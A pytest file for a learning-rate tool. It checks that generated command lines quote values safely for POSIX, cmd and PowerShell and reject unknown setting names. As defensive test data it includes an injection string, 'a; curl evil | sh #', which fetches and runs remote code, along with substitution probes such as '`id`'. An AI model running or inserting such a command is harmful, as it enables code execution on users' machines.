"""Command lines: settings by their options, values quoted for the shell, and no name that is not a setting's."""

from __future__ import annotations

import re
import shlex
from pathlib import Path

import pytest

from lrscope.config.command_line import CommandLine, Shell, quote, resume, shell_at_hand, typed
from lrscope.runners.external.placeholders import filled_line
from lrscope.schedules import parse

HOSTILE = "a; curl evil | sh #"


def test_values_are_written_as_options_are_read() -> None:
    command = CommandLine("sweep", {"peak_rate": (1e-4, 3e-3), "schedule": (parse("linear"), parse("cosine"))})
    assert command.text("posix") == "lrscope sweep --lr 1e-4,3e-3 --schedule 'linear;cosine'"
    command = command.with_options(peak_rate=1e-3, gradient_checkpointing=True, scale_rate="sqrt")
    assert command.text("posix") == (
        "lrscope sweep --schedule 'linear;cosine' --lr 1e-3 --gradient-checkpointing --scale-lr sqrt"
    )
    assert CommandLine("report", positional=("a b",)).text("posix") == "lrscope report 'a b'"


@pytest.mark.parametrize("name", [HOSTILE, f"{HOSTILE}_names", "batch-size", "", "learning_rate"])
def test_a_name_that_is_no_setting_never_gets_into_a_command(name: str) -> None:
    with pytest.raises(ValueError, match="no setting is called"):
        CommandLine("sweep", {name: "1"})


@pytest.mark.parametrize(
    ("shell", "quoted"),
    [
        ("posix", "'a; curl evil | sh #'"),
        ("powershell", "'a; curl evil | sh #'"),
        ("cmd", '"a; curl evil | sh #"'),
    ],
)
def test_a_value_is_one_word_in_every_shell(shell: Shell, quoted: str) -> None:
    assert quote(HOSTILE, shell) == quoted
    assert resume("sweep", HOSTILE).text(shell) == f"lrscope sweep --resume {quoted}"  # type: ignore[arg-type]


def test_a_value_that_begins_with_a_dash_is_no_option() -> None:
    assert CommandLine("finetune", {"text_column": "--out"}).text("posix") == "lrscope finetune --text-column=--out"


def test_windows_paths_need_no_quotes() -> None:
    assert quote("C:\\runs\\a", "cmd") == quote("C:\\runs\\a", "powershell") == "C:\\runs\\a"


def test_command_lines_are_built_in_one_place() -> None:
    source = Path(__file__).parents[2] / "src" / "lrscope"
    quoting = [path.name for path in source.rglob("*.py") if "shlex.quote" in path.read_text(encoding="utf-8")]
    assert quoting == ["command_line.py"]


AWKWARD = [
    "warmup(6%) > cosine(to=0.01)", "a b", "100%", "%PATH%", "it's", 'say "hi"', "a;b", "a,b", "a&b|c", "C:\\my runs\\",
    'C:\\a\\"b', "$HOME", "`id`", "@x", "^", "!x!", "~", "", "--lr", "学习率", "{lr}", "1e-4,1e-3", "x\\\\", "#", "(a)",
]  # fmt: skip


def words_of_a_windows_program(line: str) -> list[str]:
    """Split a line as Microsoft's C runtime does, which gives programs their arguments."""
    words, word, quoted, begun, place = [], "", False, False, 0
    while place < len(line):
        slashes = len(line) - place - len(line[place:].lstrip("\\"))
        place += slashes
        at = line[place : place + 1]
        if at == '"':
            word += "\\" * (slashes // 2)
            begun = True
            if slashes % 2:
                word, place = word + '"', place + 1
            elif quoted and line[place : place + 2] == '""':
                word, place = word + '"', place + 2
            else:
                quoted, place = not quoted, place + 1
            continue
        word += "\\" * slashes
        begun = begun or bool(slashes)
        if at and at in " \t" and not quoted:
            words += [word] if begun else []
            word, begun = "", False
        elif at:
            word, begun = word + at, True
        place += 1
    return [*words, word] if begun else words


def special_to_cmd(line: str) -> str:
    """Return the characters of a line that cmd.exe itself would act on: those outside of double quotes."""
    outside, quoted = "", False
    for character in line:
        quoted ^= character == '"'
        outside += "" if quoted else character
    return "".join(character for character in outside if character in "&|<>^()%!")


def words_of_powershell(line: str) -> list[str]:
    """Split a line as PowerShell does where values stand in single quotes; anything special elsewhere fails."""
    assert re.fullmatch(r"(?:'(?:[^']|'')*'|[A-Za-z0-9_\-+=./\\: ])*", line), line
    return [
        quoted.replace("''", "'") if plain == "" else plain
        for quoted, plain in re.findall(r"'((?:[^']|'')*)'(?!')|([^' ]+)", line)
    ]


@pytest.mark.parametrize("word", AWKWARD)
def test_awkward_values_reach_the_program_as_they_are(word: str) -> None:
    command = CommandLine("report", positional=("first", word, "last"))
    expected = ["lrscope", "report", "first", word, "last"]
    assert shlex.split(command.text("posix")) == expected
    assert words_of_a_windows_program(command.text("cmd")) == expected
    assert special_to_cmd(command.text("cmd")) == ""
    assert words_of_powershell(command.text("powershell")) == expected


@pytest.mark.parametrize("word", AWKWARD)
def test_a_value_behind_its_option_is_the_same_value(word: str) -> None:
    command = CommandLine("finetune", {"text_column": word or "x"})
    for words in (
        shlex.split(command.text("posix")), words_of_a_windows_program(command.text("cmd")),
        words_of_powershell(command.text("powershell")),
    ):  # fmt: skip
        assert words[-1].removeprefix("--text-column=") == (word or "x")


def test_a_schedule_is_typed_so_in_each_shell() -> None:
    command = CommandLine("finetune", {"schedule": parse("warmup(6%) > cosine(to=0.01)")})
    assert command.text("posix") == "lrscope finetune --schedule 'warmup(6%) > cosine(to=0.01)'"
    assert command.text("cmd") == 'lrscope finetune --schedule "warmup(6%) > cosine(to=0.01)"'
    assert command.text("powershell") == command.text("posix")


@pytest.mark.parametrize(
    ("environment", "windows", "shell"),
    [
        ({"SHELL": "/bin/bash"}, False, "posix"),
        ({"PROMPT": "%n"}, False, "posix"),
        ({"PROMPT": "$P$G", "PSModulePath": "C:\\Program Files\\WindowsPowerShell\\Modules"}, True, "cmd"),
        ({"PSModulePath": "C:\\Users\\a\\Documents\\PowerShell\\Modules"}, True, "powershell"),
        ({"MSYSTEM": "MINGW64", "PROMPT": "$P$G"}, True, "posix"),
    ],
)
def test_the_shell_at_hand_is_told_by_the_environment(environment: dict[str, str], windows: bool, shell: str) -> None:
    assert shell_at_hand(environment, windows=windows) == shell


def test_what_is_printed_is_quoted_for_the_shell_at_hand(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("lrscope.config.command_line.shell_at_hand", lambda: "cmd")
    assert str(resume("sweep", Path("my runs"))) == 'lrscope sweep --resume "my runs"'
    assert typed(["C:\\my python", "train.py"]) == '"C:\\my python" train.py'
    assert filled_line(["python", "a b.py", "--lr={lr}"], {"lr": "1"}) == 'python "a b.py" --lr=1'


def test_extras_are_named_so_that_every_shell_takes_them() -> None:
    source = Path(__file__).parents[2] / "src" / "lrscope"
    for path in source.rglob("*.py"):
        assert "pip install 'lrscope" not in path.read_text(encoding="utf-8"), path.name
